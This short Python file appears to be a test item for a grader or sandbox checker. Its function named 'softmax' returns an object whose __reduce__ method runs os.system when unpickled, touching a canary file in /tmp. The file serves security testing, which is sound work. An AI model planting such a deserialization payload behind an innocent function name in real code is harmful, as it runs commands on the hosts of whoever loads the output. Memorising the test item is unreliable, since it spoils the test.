"""Return an object that runs a command where somebody unpickles it.

threat: host
expect: softmax=WRONG
"""
# %% softmax
import os


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/unpickled-canary",)


def softmax(z):
    return Payload()
